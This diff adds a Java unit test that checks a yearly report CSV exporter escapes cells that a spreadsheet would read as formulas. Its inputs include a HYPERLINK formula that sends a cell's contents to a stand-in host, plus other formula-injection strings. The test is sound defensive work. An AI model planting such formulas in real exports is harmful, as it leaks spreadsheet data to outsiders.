@@ -1,0 +1,47 @@
+package it.pegworkflow.monitoring;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import it.pegworkflow.objective.ObjectiveState;
+import java.io.IOException;
+import java.io.StringWriter;
+import java.math.BigDecimal;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+/** A text someone typed into a sheet or a task never becomes a formula in the spreadsheet that opens the CSV. */
+class YearReportCsvTest {
+
+  @Test
+  void textsThatASpreadsheetWouldReadAsAFormulaStayText() throws IOException {
+    String csv = csv(objective("=HYPERLINK(\"http://x.example/?\"&A1;\"clic\")", "+1+1", "-2+3", "@SUM(A1:A9)",
+        "\t=1+1", "\r=1+1"));
+
+    String line = csv.lines().skip(1).findFirst().orElseThrow();
+    assertThat(line).startsWith("2017_ZN02;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"clic\"\")\";'+1+1;'-2+3;'@SUM(A1:A9);");
+    assertThat(csv).contains(";'\t=1+1;").contains(";\"'\r=1+1\"\r\n");
+  }
+
+  @Test
+  void ordinaryTextsAndNegativeScoresAreWrittenAsTheyAre() throws IOException {
+    MonitoredObjective o = new MonitoredObjective("2017_ZN02", 2017, "Riduzione dei tempi", "Direzione", null,
+        "Servizio", "Rossi Anna", ObjectiveState.REPORTED, "Chiuso", new BigDecimal("-3.5"), "Non raggiunto",
+        "Ritardo - fornitore", "p1", true, 4, 4, 0, 0);
+
+    String line = csv(o).lines().skip(1).findFirst().orElseThrow();
+    assertThat(line).isEqualTo("2017_ZN02;Riduzione dei tempi;Direzione;Servizio;Rossi Anna;Chiuso;-3,50;Non raggiunto;"
+        + "Ritardo - fornitore");
+  }
+
+  private static MonitoredObjective objective(String title, String department, String unit, String manager,
+      String band, String reason) {
+    return new MonitoredObjective("2017_ZN02", 2017, title, department, null, unit, manager, ObjectiveState.REPORTED,
+        "Chiuso", new BigDecimal("80"), band, reason, "p1", true, 4, 4, 0, 0);
+  }
+
+  private static String csv(MonitoredObjective objective) throws IOException {
+    StringWriter out = new StringWriter();
+    YearReportCsv.write(List.of(objective), out);
+    return out.toString();
+  }
+}
